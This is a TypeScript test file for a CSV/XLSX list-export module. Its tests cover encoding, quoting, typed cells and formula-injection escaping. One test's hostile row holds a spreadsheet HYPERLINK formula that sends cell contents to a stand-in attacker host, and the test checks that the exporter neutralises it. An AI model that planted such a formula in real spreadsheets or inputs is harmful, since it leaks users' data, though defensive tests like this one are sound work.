import { PassThrough, Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { writeExport, type ExportColumn, type ExportFormat } from './list-export.js';

interface Row {
  reference: string;
  name: string;
  fee: string;
  registeredOn: string;
  createdAt: Date;
  nights: number | null;
}

const columns: ExportColumn<Row>[] = [
  { header: 'Registration ID', type: 'text', value: (row) => row.reference },
  { header: 'Name', type: 'text', value: (row) => row.name },
  { header: 'Fee (USD)', type: 'amount', currency: 'USD', value: (row) => row.fee },
  { header: 'Payment date', type: 'date', value: (row) => row.registeredOn },
  { header: 'Submitted', type: 'datetime', value: (row) => row.createdAt },
  { header: 'Nights', type: 'integer', value: (row) => row.nights },
];

const rows: Row[] = [
  {
    reference: 'CAAWG11-0001',
    name: 'Adjoa Mensah, "Dr."',
    fee: '150.00',
    registeredOn: '2025-07-30',
    createdAt: new Date('2025-07-30T21:30:00Z'),
    nights: 3,
  },
  {
    reference: 'CAAWG11-0002',
    name: 'Fátima Conceição',
    fee: '80.5',
    registeredOn: '2025-08-02',
    createdAt: new Date('2025-08-02T06:05:00Z'),
    nights: null,
  },
];

function stream(list: Row[]): AsyncIterable<Row> {
  return Readable.from(list);
}

async function exported(format: ExportFormat): Promise<Buffer> {
  const out = new PassThrough();
  const [bytes] = await Promise.all([
    buffer(out),
    writeExport(format, { name: 'registrations', columns, rows: stream(rows) }, out),
  ]);
  return bytes;
}

describe('list exports', () => {
  it('writes CSV in UTF-8 with a byte order mark, quoting where needed', async () => {
    const bytes = await exported('csv');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records: string[][] = parse(bytes.toString('utf8').slice(1));
    expect(records).toEqual([
      ['Registration ID', 'Name', 'Fee (USD)', 'Payment date', 'Submitted', 'Nights'],
      ['CAAWG11-0001', 'Adjoa Mensah, "Dr."', '150.00', '2025-07-30', '2025-07-31 00:30', '3'],
      ['CAAWG11-0002', 'Fátima Conceição', '80.50', '2025-08-02', '2025-08-02 09:05', ''],
    ]);
  });

  it('writes XLSX with typed cells: dates as dates, amounts as numbers in USD', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(await exported('xlsx')).buffer);
    const sheet = workbook.getWorksheet('registrations')!;
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Registration ID',
      'Name',
      'Fee (USD)',
      'Payment date',
      'Submitted',
      'Nights',
    ]);
    const first = sheet.getRow(2);
    expect(first.getCell(2).value).toBe('Adjoa Mensah, "Dr."');
    expect(first.getCell(3).value).toBe(150);
    expect(first.getCell(3).numFmt).toBe('#,##0.00 "USD"');
    expect(first.getCell(4).value).toEqual(new Date('2025-07-30T00:00:00Z'));
    expect(first.getCell(4).numFmt).toBe('yyyy-mm-dd');
    expect(first.getCell(5).value).toEqual(new Date('2025-07-31T00:30:00Z'));
    expect(first.getCell(6).value).toBe(3);
    expect(sheet.getRow(3).getCell(3).value).toBe(80.5);
    expect(sheet.getRow(3).getCell(2).value).toBe('Fátima Conceição');
    expect(sheet.rowCount).toBe(3);
  });

  it('writes a text cell that starts like a formula as text, and a negative amount as a number', async () => {
    const out = new PassThrough();
    const hostile: Row = {
      reference: '-1+1',
      name: '=HYPERLINK("https://attacker.example/?"&C2,"Open")',
      fee: '-20',
      registeredOn: '2025-07-30',
      createdAt: new Date('2025-07-30T21:30:00Z'),
      nights: -1,
    };
    const [bytes] = await Promise.all([
      buffer(out),
      writeExport('csv', { name: 'payments', columns, rows: stream([hostile]) }, out),
    ]);
    const [, record]: string[][] = parse(bytes.toString('utf8').slice(1));
    expect(record).toEqual([
      "'-1+1",
      `'=HYPERLINK("https://attacker.example/?"&C2,"Open")`,
      '-20.00',
      '2025-07-30',
      '2025-07-31 00:30',
      '-1',
    ]);
  });

  it('writes only the header of an empty list', async () => {
    const out = new PassThrough();
    const [bytes] = await Promise.all([
      buffer(out),
      writeExport('csv', { name: 'payments', columns, rows: stream([]) }, out),
    ]);
    expect(bytes.toString('utf8')).toBe(
      '\uFEFFRegistration ID,Name,Fee (USD),Payment date,Submitted,Nights\n',
    );
  });
});
